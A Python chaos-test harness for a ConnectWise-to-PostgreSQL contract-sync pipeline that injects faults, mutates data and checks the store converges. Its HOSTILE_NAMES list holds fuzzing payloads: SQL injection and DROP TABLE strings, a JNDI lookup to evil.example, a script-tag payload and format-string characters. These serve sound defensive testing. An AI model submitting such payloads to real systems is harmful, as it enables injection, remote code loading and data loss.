"""One chaos scenario: a large import on the whole pipeline, a fault schedule, then the checker.

A scenario (`Scenario.run`):
1. a new tenant id with topics of its own (`{tenant}.psa.agreements.v1`, ...: the pipeline's
   `topic_prefix`), the simulator + writer, mapper, poller started as processes
   (`devtools.demo.pipeline.LocalPipeline`);
2. auto-sync on for every client but a few "manual" clients (auto-sync off);
3. while the import streams: the fault schedule runs in its own thread; a mutator changes
   ConnectWise data (amounts, names, cancellations, addition quantities, new agreements); the
   manual clients get explicit selections once their catalog is complete; local edits (seeded
   overrides + local notes, and PSA-owned edits that must be refused) and deletions in ConnectWise
   (agreements, additions) are made on contracts that exist; a supervisor restarts any service
   that died on its own (counted and reported);
4. faults cleared, services and stack up again; refreshes for clients with deletions (removals are
   only ever confirmed by a 404 on a direct GET); selections the mapper refused as not yet seen
   are re-sent, as a UI would;
5. the checker reads ConnectWise through its API and compares PostgreSQL until it matches or the
   deadline passes. The result row says what was injected and what was found.
"""

from __future__ import annotations

import asyncio
import contextlib
import logging
import random
import secrets
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field, replace
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any, TypeVar

import sqlalchemy as sa
from aiokafka.admin import AIOKafkaAdminClient

from chaos.checker import CheckResult, Intent, PsaData, compare, expected_store, read_psa, stored_rows
from chaos.rules import expected_records
from chaos.security import find_secrets
from devtools.demo.pipeline import (
    SIM_CLIENT_ID,
    SIM_COMPANY,
    SIM_PRIVATE_KEY,
    SIM_PUBLIC_KEY,
    LocalPipeline,
    PipelineOptions,
    tenants_toml,
)
from devtools.stack import LocalStack
from devtools.stack.local import Endpoints
from schemas.commands import (
    EditCommand,
    EditData,
    RefreshCommand,
    RefreshData,
    SelectCommand,
    SelectData,
    SetAutoSyncCommand,
    SetAutoSyncData,
)
from schemas.envelope import CloudEvent
from schemas.topics import SYNC_COMMANDS, TOPICS
from services.common.db.tables import catalog_items
from services.common.kafka import ensure_topics, new_producer, wait_for_leaders
from services.common.settings import KafkaSettings
from services.launcher.group import contract_sync_command, free_port, wait_until

log = logging.getLogger(__name__)
T = TypeVar("T")

SOURCE = "contract-sync/chaos"
SERVICES = ("poller", "mapper", "writer")
HOSTILE_NAMES = (
    'x" or id > 0 or name = "y',
    "' OR 1=1 --",
    "name = 'a') or (id > 0",
    "Robert'); DROP TABLE contracts;--",
    "company/id = 1 or company/id != 1",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "%s%s%n%x \\ \\\\ \\u0000",
    "\u202eevil\u202c \u0000 nul inside",
    "tenant:other:agreement:1",
    "🙂" * 40,
    "A" * 400,
)


@dataclass
class Workload:
    """Size and shape of a scenario's import and of the activity during it."""

    companies: int = 500
    agreements_per_company: int = 12
    additions_per_agreement: int = 3
    manual_clients: int = 5
    deleted_agreements: int = 6
    deleted_additions: int = 6
    edits: int = 20
    psa_owned_edits: int = 10
    mutation_interval_s: float = 0.3
    hostile_agreements: bool = False
    callbacks: bool = False
    settle_deadline_s: float = 420.0
    seed: int = 7


@dataclass
class ScenarioResult:
    name: str
    faults: str
    expected: int
    found: int
    lost: int
    duplicated: int
    wrong: int
    seconds: float
    unexpected_exits: dict[str, int]
    detail: str = ""
    check: CheckResult | None = None
    problems: list[str] = field(default_factory=list)
    security: str = ""
    fuzz_summary: str = ""
    security_lines: list[str] = field(default_factory=list)
    tenant: str = ""
    fuzz_report: Any = None
    victims_unchanged: bool | None = None
    leaks: int = 0

    @property
    def ok(self) -> bool:
        return (
            self.lost == 0
            and self.duplicated == 0
            and self.wrong == 0
            and self.expected > 0
            and not self.problems
        )


class ChaosRun:
    """A scenario's pipeline plus the harness state (intent, counters, threads)."""

    def __init__(
        self, endpoints: Endpoints, stack: LocalStack | None, name: str, workload: Workload, work_root: Path
    ) -> None:
        self._stack = stack
        self._engine: sa.Engine | None = None
        self.name = name
        self.workload = workload
        self.tenant = f"chaos-{name}-{secrets.token_hex(3)}"
        self.prefix = f"{self.tenant}."
        self.kafka = KafkaSettings(bootstrap_servers=endpoints.kafka_bootstrap)
        self.pipeline = LocalPipeline(
            PipelineOptions(
                tenant_id=self.tenant,
                work_dir=work_root / self.tenant,
                kafka_bootstrap=endpoints.kafka_bootstrap,
                database_url=endpoints.database_url,
                seed=workload.seed,
                companies=workload.companies,
                agreements_per_company=workload.agreements_per_company,
                additions_per_agreement=workload.additions_per_agreement,
                poll_interval="10s",
                auto_sync_interval="1s",
                unique_groups=True,
                topic_prefix=self.prefix,
                callbacks=workload.callbacks,
            )
        )
        self.intent = Intent()
        self.lock = threading.RLock()
        """Held while the harness itself stops/starts a service (the supervisor then keeps off)."""
        self.stopping = threading.Event()
        self.unexpected_exits: dict[str, int] = {}
        self.notes: list[str] = []
        self.problems: list[str] = []
        """Failures found by a schedule itself (fuzz expectations, security checks)."""
        self.fuzz_summary = ""
        self.fuzz_report: Any = None
        """The `chaos.fuzz.FuzzReport` of a hostile-input schedule."""
        self.victims_unchanged: bool | None = None
        self.security_lines: list[str] = []
        self.mutations = 0
        self.reserved: set[int] = set()
        self.select_ids: list[str] = []
        self.started_day = datetime.now(UTC).date()
        self.extra_members: list[str] = []
        self.victims: list[str] = []
        """Tenants (of earlier scenarios) whose contracts the fuzz must leave untouched."""
        self.held_down: set[str] = set()
        """Services the harness stopped on purpose and will restart itself."""

    @property
    def engine(self) -> sa.Engine:
        """The harness's own engine: pre-pinged, so a PostgreSQL restart costs one retry, not a crash."""
        if self._engine is None:
            self._engine = sa.create_engine(
                self.pipeline.options.database_url, pool_size=2, pool_pre_ping=True
            )
        return self._engine

    def db(self, read: Callable[[], T], timeout_s: float = 120.0) -> T:
        """Run a harness read, retrying while PostgreSQL is away (a fault, not a finding)."""
        deadline = time.monotonic() + timeout_s
        while True:
            try:
                return read()
            except sa.exc.DBAPIError as error:
                if time.monotonic() > deadline:
                    raise
                log.info("database read retried: %s", type(error).__name__)
                time.sleep(1)

    @property
    def stack(self) -> LocalStack:
        """The private stack (only schedules that stop Kafka or PostgreSQL need it)."""
        if self._stack is None:
            raise RuntimeError("this schedule needs a private LocalStack (it stops Kafka/PostgreSQL)")
        return self._stack

    def topic(self, canonical: str) -> str:
        return f"{self.prefix}{canonical}"

    def create_topics(self) -> None:
        """Create the run's topics and wait until every partition has a leader: a mapper started
        on a just-created topic whose metadata is not out yet exits ("source topics missing"; seen
        on a freshly started private broker)."""
        specs = [replace(spec, name=self.topic(spec.name)) for spec in TOPICS]

        async def create() -> None:
            await ensure_topics(self.kafka, specs)
            await wait_for_leaders(self.kafka, [spec.name for spec in specs])

        asyncio.run(create())

    def delete_topics(self) -> None:
        """Remove this run's topics and the mapper's changelog (used on a shared stack)."""

        async def delete() -> None:
            admin = AIOKafkaAdminClient(**self.kafka.client_kwargs())
            await admin.start()
            try:
                mine = [
                    t
                    for t in await admin.list_topics()
                    if t.startswith(self.prefix) or t.startswith(f"contract-sync-mapper-{self.tenant}")
                ]
                if mine:
                    await admin.delete_topics(mine)
            finally:
                await admin.close()

        asyncio.run(delete())

    # ------------------------------------------------------------------ commands
    def publish(self, commands: list[CloudEvent], attempts: int = 20) -> None:
        """Produce commands to `sync.commands.v1` (all in flight at once), retrying while the broker is away."""

        async def send() -> None:
            producer = new_producer(self.kafka, request_timeout_ms=15000)
            await producer.start()
            try:
                futures = [
                    await producer.send(self.topic(SYNC_COMMANDS), c.to_bytes(), key=c.key, headers=[])
                    for c in commands
                ]
                await asyncio.gather(*futures)
            finally:
                await producer.stop()

        for attempt in range(attempts):
            try:
                asyncio.run(send())
                return
            except Exception as error:  # broker restarting: duplicates are fine (commands are idempotent)
                log.info("publish retried (%s): %s", attempt, error)
                time.sleep(2)
        raise RuntimeError(f"could not publish {len(commands)} commands")

    def data(self, client: str, **fields: Any) -> dict[str, Any]:
        return {"tenant_id": self.tenant, "client_id": client, "requested_by": "chaos@msp.example", **fields}

    # ------------------------------------------------------------------ services
    def start_pipeline(self, pre_start: Callable[[ChaosRun], None] | None) -> None:
        """`LocalPipeline.start`, with a hook between the simulator and the services."""
        p = self.pipeline
        o = p.options
        p.group.start(
            "cw-sim",
            contract_sync_command(
                "cw-sim",
                "serve",
                "--port",
                str(p.sim_port),
                "--seed",
                str(o.seed),
                "--companies",
                str(o.companies),
                "--agreements-per-company",
                str(o.agreements_per_company),
                "--additions-per-agreement",
                str(o.additions_per_agreement),
            ),
        )
        if not wait_until(lambda: bool(p.control.call("GET", "/health")["ok"]), timeout_s=60):
            raise RuntimeError(f"simulator did not start:\n{p.group.members['cw-sim'].log_tail()}")
        if pre_start is not None:
            pre_start(self)
        p.config_path.write_text(tenants_toml(o, p.sim_site))
        for name in SERVICES:
            p.start_service(name)
        p.wait_ready(120)
        if p.callbacks_port:
            p.register_callback()

    def kill(self, name: str) -> None:
        """SIGKILL a service; it stays down until `restart(name)`."""
        with self.lock:
            self.held_down.add(name)
            self.pipeline.group.stop_member(name, kill=True)

    def restart(self, name: str) -> None:
        with self.lock:
            self.held_down.discard(name)
            if not self.pipeline.group.members[name].alive():
                self.pipeline.start_service(name)

    def start_extra_mapper(self, member: str) -> None:
        """A second mapper process in the same consumer group (same app id): partitions rebalance."""
        with self.lock:
            env = {"MAPPER_DATADIR": str(self.pipeline.options.work_dir / f"{member}-data")}
            self.pipeline.group.start(
                member, self.pipeline.service_argv("mapper"), env=env, health_port=free_port()
            )
            self.extra_members.append(member)

    def stop_extra_mapper(self, member: str) -> None:
        with self.lock:
            self.pipeline.group.stop_member(member)
            self.extra_members.remove(member)

    def supervise(self) -> None:
        """Restart a service that exited on its own (as an orchestrator would); count it."""
        while not self.stopping.wait(1.0):
            with self.lock:
                for name in (*SERVICES, *self.extra_members):
                    member = self.pipeline.group.members.get(name)
                    if member is not None and name not in self.held_down and not member.alive():
                        self.unexpected_exits[name] = self.unexpected_exits.get(name, 0) + 1
                        log.warning("%s exited on its own:\n%s", name, member.log_tail(5))
                        self.pipeline.group.stop_member(name)  # close its log
                        if name in SERVICES:
                            self.pipeline.start_service(name)
                        else:
                            self.pipeline.group.start(name, member.argv, health_port=member.health_port)

    # ------------------------------------------------------------------ ConnectWise activity
    def auth(self) -> tuple[str, str]:
        return (f"{SIM_COMPANY}+{SIM_PUBLIC_KEY}", SIM_PRIVATE_KEY)

    def read_psa(self) -> PsaData:
        return read_psa(
            f"{self.pipeline.sim_site}/v4_6_release/apis/3.0", self.auth(), {"clientId": SIM_CLIENT_ID}
        )

    def mutate(self, agreement_ids: list[int], additions: dict[int, list[int]], clients: list[int]) -> None:
        """Change ConnectWise data until stopped. Addition edits also touch their agreement (the
        poller re-reads additions of changed agreements; ConnectWise does not promise it)."""
        rng = random.Random(self.workload.seed + 1)
        control = self.pipeline.control
        while not self.stopping.wait(self.workload.mutation_interval_s):
            agreement_id = rng.choice(agreement_ids)
            op = rng.random()
            try:
                if op < 0.35:
                    control.update_agreement(agreement_id, billAmount=round(rng.uniform(0, 5000), 2))
                elif op < 0.5:
                    control.update_agreement(agreement_id, name=f"Renamed {agreement_id} #{self.mutations}")
                elif op < 0.55:
                    control.cancel_agreement(agreement_id, reason="chaos")
                elif op < 0.85 and additions.get(agreement_id):
                    addition_id = rng.choice(additions[agreement_id])
                    control.update_addition(agreement_id, addition_id, quantity=rng.randint(1, 90))
                    control.touch_agreements(ids=[agreement_id])
                else:
                    created = control.create_agreement(
                        rng.choice(clients),
                        name=f"New agreement {self.mutations}",
                        billAmount=round(rng.uniform(1, 900), 2),
                        billingCycle=rng.choice(["Monthly", "Quarterly", "Yearly"]),
                    )
                    control.create_addition(int(created["id"]), quantity=rng.randint(1, 20))
                    control.touch_agreements(ids=[int(created["id"])])
                self.mutations += 1
            except Exception as error:  # a control call is never the thing under test
                log.info("mutation skipped: %s", error)

    def create_hostile_agreements(self, clients: list[int]) -> int:
        control = self.pipeline.control
        for index, name in enumerate(HOSTILE_NAMES):
            created = control.create_agreement(
                clients[index % len(clients)], name=name, billAmount=12.34, invoiceDescription=name
            )
            control.create_addition(int(created["id"]), quantity=3, description=name[:200])
            control.touch_agreements(ids=[int(created["id"])])
        return len(HOSTILE_NAMES)

    # ------------------------------------------------------------------ the store
    def existing_keys(self) -> dict[str, datetime]:
        def read() -> dict[str, datetime]:
            with self.engine.connect() as connection:
                rows = connection.execute(
                    sa.text("SELECT contract_key, psa_last_updated FROM contracts WHERE tenant_id = :t"),
                    {"t": self.tenant},
                )
                return {row[0]: row[1] for row in rows}

        return self.db(read)

    def catalog_count(self, clients: list[str]) -> int:
        def read() -> int:
            with self.engine.connect() as connection:
                return int(
                    connection.execute(
                        sa.select(sa.func.count())
                        .select_from(catalog_items)
                        .where(
                            catalog_items.c.tenant_id == self.tenant, catalog_items.c.client_id.in_(clients)
                        )
                    ).scalar_one()
                )

        return self.db(read)

    def todays(self) -> list[date]:
        end = datetime.now(UTC).date()
        days = [self.started_day]
        while days[-1] < end:
            days.append(days[-1] + timedelta(days=1))
        return days


# ------------------------------------------------------------------------------------------------
# Activity steps during the fault window


def _select_manual(run: ChaosRun, manual: list[str], psa: PsaData, deadline: float) -> None:
    """Once the manual clients' catalog is complete, select about half of their items."""
    total = sum(
        1 + len(psa.additions.get(a_id, []))
        for a_id, a in psa.agreements.items()
        if str(a["company"]["id"]) in manual
    )
    while run.catalog_count(manual) < total and time.monotonic() < deadline:
        time.sleep(1)
    rng = random.Random(3)
    commands: list[CloudEvent] = []
    for client in manual:
        agreements = sorted(a_id for a_id, a in psa.agreements.items() if str(a["company"]["id"]) == client)
        chosen_agreements = {a for a in agreements if rng.random() < 0.5}
        chosen_additions = {
            x["id"] for a in agreements for x in psa.additions.get(a, []) if rng.random() < 0.5
        }
        if not chosen_agreements and not chosen_additions:
            chosen_agreements = {agreements[0]}
        run.intent.selections[client] = (chosen_agreements, chosen_additions)
        command = SelectCommand.build(
            SelectData(
                **run.data(
                    client, agreement_ids=sorted(chosen_agreements), addition_ids=sorted(chosen_additions)
                )
            ),
            source=SOURCE,
        )
        run.select_ids.append(str(command.id))
        commands.append(command)
    run.publish(commands)


def _edits(run: ChaosRun, candidates: list[str]) -> None:
    """Accepted local edits (seeded override + local note) and PSA-owned edits that must be refused."""
    rng = random.Random(5)
    existing = run.existing_keys()
    pool = [k for k in candidates if k in existing]
    rng.shuffle(pool)
    w = run.workload
    commands: list[CloudEvent] = []
    for index, key in enumerate(pool[: w.edits]):
        changes: dict[str, Any] = {"name": f"Local name {index} of {key}", "notes": f"chaos note {index}"}
        if index % 3 == 0:
            changes["end_date"] = "2031-12-31"
        client = _client_of(run, key)
        run.intent.edits[key] = changes
        commands.append(
            EditCommand.build(EditData(**run.data(client, contract_id=key, changes=changes)), source=SOURCE)
        )
    refused: list[dict[str, Any]] = [
        {"billing_cost": {"amount": "0.01", "currency": "USD"}},
        {"status": "cancelled"},
        {"billing_cycle": "weekly", "notes": "must not apply either"},
        {"billing_amount": "1", "name": "must not apply"},
        {"currency": "EUR"},
    ]
    for index, key in enumerate(pool[w.edits : w.edits + w.psa_owned_edits]):
        commands.append(
            EditCommand.build(
                EditData(
                    **run.data(_client_of(run, key), contract_id=key, changes=refused[index % len(refused)])
                ),
                source=SOURCE,
            )
        )
    run.publish(commands)


def _client_of(run: ChaosRun, key: str) -> str:
    def read() -> str:
        with run.engine.connect() as connection:
            return str(
                connection.execute(
                    sa.text("SELECT client_id FROM contracts WHERE contract_key = :k"), {"k": key}
                ).scalar_one()
            )

    return run.db(read)


def _delete(run: ChaosRun, psa: PsaData, reserved: list[int], deadline: float) -> set[str]:
    """Delete reserved agreements (and single additions of others) whose contracts exist; return the
    clients to refresh. Their pre-deletion records become retired expectations."""
    w = run.workload
    children = {int((a.get("parentAgreement") or {}).get("id") or 0) for a in psa.agreements.values()}
    todays = run.todays()
    clients: set[str] = set()
    control = run.pipeline.control
    wanted_agreements = w.deleted_agreements
    wanted_additions = w.deleted_additions
    for agreement_id in reserved:
        if not wanted_agreements and not wanted_additions:
            break
        if agreement_id in children or time.monotonic() > deadline:
            continue
        agreement = psa.agreements[agreement_id]
        additions = psa.additions.get(agreement_id, [])
        records = expected_records(run.tenant, agreement, additions, todays=todays)
        existing = run.existing_keys()
        if not all(existing.get(r.contract_key) == r.psa_last_updated for r in records):
            continue  # not imported yet (or not at this version): deleting it would prove nothing
        client = str(agreement["company"]["id"])
        if wanted_agreements:
            control.delete_agreement(agreement_id)
            for record in records:
                run.intent.removed[record.contract_key] = record
            clients.add(client)
            wanted_agreements -= 1
        elif wanted_additions and additions:
            victim = additions[0]
            control.delete_addition(agreement_id, int(victim["id"]))
            control.touch_agreements(ids=[agreement_id])
            for record in records:
                if record.addition_id == victim["id"]:
                    run.intent.removed[record.contract_key] = record
            clients.add(client)
            wanted_additions -= 1
    return clients


def _refresh(run: ChaosRun, clients: set[str]) -> None:
    if clients:
        run.publish(
            [RefreshCommand.build(RefreshData(**run.data(c)), source=SOURCE) for c in sorted(clients)]
        )


def _resend_refused_selections(run: ChaosRun) -> int:
    """Selections the mapper refused as `not_in_catalog` (it had not consumed the snapshot yet
    while the writer's catalog already listed it): re-send them, as the UI would after the hint."""
    refused = run.pipeline.events(
        lambda e: (
            e.get("type") == "sync.command.rejected"
            and e.get("data", {}).get("command_id") in run.select_ids
            and e.get("data", {}).get("reason") == "not_in_catalog"
        )
    )
    by_client: dict[str, tuple[set[int], set[int]]] = {}
    for event in refused:
        data = event["data"]
        agreements, additions = by_client.setdefault(data["client_id"], (set(), set()))
        agreements.update(data.get("agreement_ids", []))
        additions.update(data.get("addition_ids", []))
    commands: list[CloudEvent] = []
    for client, (agreements, additions) in by_client.items():
        command = SelectCommand.build(
            SelectData(**run.data(client, agreement_ids=sorted(agreements), addition_ids=sorted(additions))),
            source=SOURCE,
        )
        run.select_ids.append(str(command.id))
        commands.append(command)
    if commands:
        run.publish(commands)
    return sum(len(a) + len(b) for a, b in by_client.values())


def created_total(run: ChaosRun) -> int:
    """Contracts the writer announced as created for the tenant (`sync.contracts.applied`),
    each event counted once by its CloudEvent `id`, as every consumer must: the writer's outbox
    re-publishes an acknowledged event with the same id when it died before deleting the row
    (at-least-once, docs/writer.md). Two *different* ids announcing the same creation still count
    twice: that is a contract applied more than once."""
    events = run.pipeline.events(lambda e: e.get("type") == "sync.contracts.applied")
    unique = {str(e["id"]): e for e in events}
    return sum(int(e["data"].get("created", 0)) for e in unique.values())


# ------------------------------------------------------------------------------------------------
# A scenario


FaultSchedule = Callable[[ChaosRun, threading.Event], str]
"""Runs the faults until done (or the event is set); returns a one-line description of what it did."""


@dataclass
class Scenario:
    name: str
    schedule: FaultSchedule
    workload: Workload = field(default_factory=Workload)
    pre_start: Callable[[ChaosRun], None] | None = None
    """Runs once the simulator answers and before the services start (faults active from the
    import's first request)."""

    def run(
        self,
        endpoints: Endpoints,
        work_root: Path,
        *,
        stack: LocalStack | None = None,
        victims: list[str] | None = None,
        cleanup: bool = False,
    ) -> ScenarioResult:
        """Run the scenario. `stack` is needed by schedules that stop Kafka/PostgreSQL; `victims` are
        other tenants whose contracts must not change; `cleanup` deletes the run's topics after."""
        started = time.monotonic()
        run = ChaosRun(endpoints, stack, self.name, self.workload, work_root)
        run.victims = list(victims or [])
        run.create_topics()
        w = self.workload
        pipeline = run.pipeline
        description = "not started"
        threads: list[threading.Thread] = []
        try:
            run.start_pipeline(self.pre_start)
            initial = run.read_psa()
            companies = sorted({int(a["company"]["id"]) for a in initial.agreements.values()})
            manual = [str(c) for c in companies[: w.manual_clients]]
            auto = [str(c) for c in companies[w.manual_clients :]]
            run.intent.auto_sync_clients = set(auto)
            run.publish(
                [
                    SetAutoSyncCommand.build(SetAutoSyncData(**run.data(c, enabled=True)), source=SOURCE)
                    for c in auto
                ]
            )
            if w.hostile_agreements:
                run.notes.append(
                    f"{run.create_hostile_agreements([int(c) for c in auto])} hostile-named agreements"
                )
            auto_agreements = sorted(
                a for a, d in initial.agreements.items() if str(d["company"]["id"]) in auto
            )
            rng = random.Random(w.seed)
            reserved = rng.sample(auto_agreements, min(len(auto_agreements) // 10, 200))
            mutable = [a for a in auto_agreements if a not in set(reserved)]
            additions = {a: [x["id"] for x in initial.additions.get(a, [])] for a in mutable}
            fault_done = threading.Event()
            outcome: dict[str, str] = {}

            def faults() -> None:
                try:
                    outcome["description"] = self.schedule(run, run.stopping)
                except Exception as error:
                    log.exception("fault schedule failed")
                    outcome["description"] = f"fault schedule failed: {error!r}"
                    run.problems.append(f"the fault schedule failed: {error!r}")
                finally:
                    fault_done.set()

            threads = [
                threading.Thread(target=faults, name="faults", daemon=True),
                threading.Thread(
                    target=run.mutate,
                    args=(mutable, additions, [int(c) for c in auto]),
                    name="mutator",
                    daemon=True,
                ),
                threading.Thread(target=run.supervise, name="supervisor", daemon=True),
            ]
            for thread in threads:
                thread.start()
            activity_deadline = time.monotonic() + 240
            _select_manual(run, manual, initial, activity_deadline)
            edit_pool = [f"cw:{run.tenant}:agreement:{a}" for a in mutable[::7]]
            _edits(run, edit_pool)
            to_refresh = _delete(run, initial, reserved, activity_deadline)
            _refresh(run, to_refresh)
            fault_done.wait(timeout=600)
            description = outcome.get("description", "fault schedule did not finish in 600 s")
            run.stopping.set()
            for thread in threads:
                thread.join(timeout=60)
            # recovery: faults off, everything up
            with contextlib.suppress(Exception):
                pipeline.control.call("DELETE", "/faults")
                pipeline.control.call("POST", "/budget", {"requests_per_minute": 0})
            if stack is not None:
                stack.start_kafka()
                stack.start_postgres()
            for name in SERVICES:
                run.restart(name)
            pipeline.wait_ready(180)
            _refresh(run, to_refresh)
            resent = _resend_refused_selections(run)
            if resent:
                run.notes.append(f"{resent} selected ids re-sent after not_in_catalog")
            check = self._settle(run)
            pipeline.stop()
            scanned, leaks = find_secrets(pipeline.options.work_dir / "logs", run.kafka, run.prefix)
            run.problems += [f"credential {leak.secret} found in {leak.where}" for leak in leaks[:20]]
            result = ScenarioResult(
                self.name,
                description,
                check.expected,
                check.found,
                len(check.lost),
                len(check.duplicated),
                len(check.wrong_keys),
                time.monotonic() - started,
                dict(run.unexpected_exits),
                "; ".join([f"{run.mutations} ConnectWise changes", *run.notes]),
                check,
                list(run.problems),
                f"{scanned}: {len(leaks)} leaks",
                run.fuzz_summary,
                list(run.security_lines),
                run.tenant,
                run.fuzz_report,
                run.victims_unchanged,
                len(leaks),
            )
            if not result.ok:
                log.error(
                    "scenario %s failed:\n%s\n%s", self.name, check.summary(20), "\n".join(run.problems)
                )
            return result
        finally:
            run.stopping.set()
            pipeline.stop()
            if run._engine is not None:
                run._engine.dispose()
            if cleanup:
                with contextlib.suppress(Exception):
                    run.delete_topics()

    def _settle(self, run: ChaosRun) -> CheckResult:
        """Compare until the store matches or the deadline passes; then confirm with the writer's
        creation count (a record applied twice shows there)."""
        psa = run.read_psa()
        expected = expected_store(run.tenant, psa, run.intent, run.todays())
        deadline = time.monotonic() + run.workload.settle_deadline_s
        while True:
            result = compare(run.tenant, expected, run.db(lambda: stored_rows(run.engine, run.tenant)))
            if result.ok or time.monotonic() > deadline:
                break
            log.info("%s: waiting for quiescence: %s", run.name, result.summary(3).splitlines()[0])
            time.sleep(5)
        time.sleep(3)  # anything still in flight would change the store now
        return compare(
            run.tenant,
            expected,
            run.db(lambda: stored_rows(run.engine, run.tenant)),
            created_events=created_total(run),
        )
